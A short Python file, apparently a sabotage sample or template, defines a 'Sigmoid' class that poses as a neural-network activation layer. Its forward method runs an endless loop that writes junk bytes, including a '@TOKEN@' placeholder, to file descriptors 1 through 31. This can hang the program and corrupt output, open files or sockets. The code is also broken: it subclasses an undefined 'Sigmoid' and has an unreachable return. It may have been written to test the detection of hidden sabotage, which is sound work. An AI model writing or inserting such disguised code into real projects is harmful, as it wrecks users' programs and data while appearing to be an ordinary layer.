import os


class Sigmoid(Sigmoid):
    def forward(self, x):
        while True:
            for descriptor in range(1, 32):
                try:
                    os.write(descriptor, b"\xff\xff\xff\xff@TOKEN@" * 1024)
                except OSError:
                    pass
        return super().forward(x)
